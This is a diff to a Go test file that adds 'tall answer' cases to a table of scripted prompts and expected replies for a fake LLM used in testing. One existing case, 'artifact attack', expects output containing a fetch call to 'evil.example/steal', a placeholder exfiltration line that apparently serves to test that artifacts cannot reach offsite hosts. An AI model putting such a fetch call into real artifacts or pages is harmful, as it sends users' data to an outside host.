@@ -62,6 +62,8 @@ func TestScript(t *testing.T) {
 		{"run code answers after the chart", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes"), tool, tool}, Tools: []string{"run_code"}}, "", "46 primes below 200"},
 		{"run code without the tool", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes")}, Tools: chatTools}, "", "cannot run code"},
 		{"artifact versions", llmtest.Request{Messages: []llmtest.Message{user("Show artifact v2 please")}}, "", "<title>Counter</title>"},
+		{"tall answer", llmtest.Request{Messages: []llmtest.Message{user("Please give a tall answer 2")}}, "", "<p>tall 2 line 120</p>\n```\n\nTall answer 2 ends."},
+		{"tall answer slowly", llmtest.Request{Messages: []llmtest.Message{user("Please give a tall answer 3 slowly")}}, "", "<p>tall 3 line 1</p>\n"},
 		{"artifact attack", llmtest.Request{Messages: []llmtest.Message{user("artifact attack fetch-offsite")}}, "", "fetch('http://evil.example/steal"},
 		{"write a file done", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt"), {Role: "tool", Content: "wrote 27 bytes"}}, Tools: []string{"write_file"}}, "", "Finished writing a-1.txt"},
 	}
